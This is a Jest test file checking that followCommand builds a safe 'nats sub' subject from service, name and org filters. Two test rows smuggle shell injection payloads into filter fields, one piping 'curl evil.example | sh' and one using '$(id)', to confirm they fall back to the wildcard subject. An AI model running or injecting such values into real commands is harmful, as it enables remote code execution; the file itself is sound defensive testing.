import { expect, test } from '@jest/globals';
import { followCommand } from './follow-command.ts';

test.each([
  [{}, "nats sub 'insurance.*.*.*'"],
  [{ service: 'billing', name: 'invoice-sent', org: 'acme' }, "nats sub 'insurance.billing.invoice-sent.acme'"],
  [{ org: "x'; curl evil.example | sh; '" }, "nats sub 'insurance.*.*.*'"],
  [{ service: '>', name: 'a.b', org: '$(id)' }, "nats sub 'insurance.*.*.*'"],
])('%j is followed by %s', (filter, command) => {
  expect(followCommand(filter)).toBe(command);
});
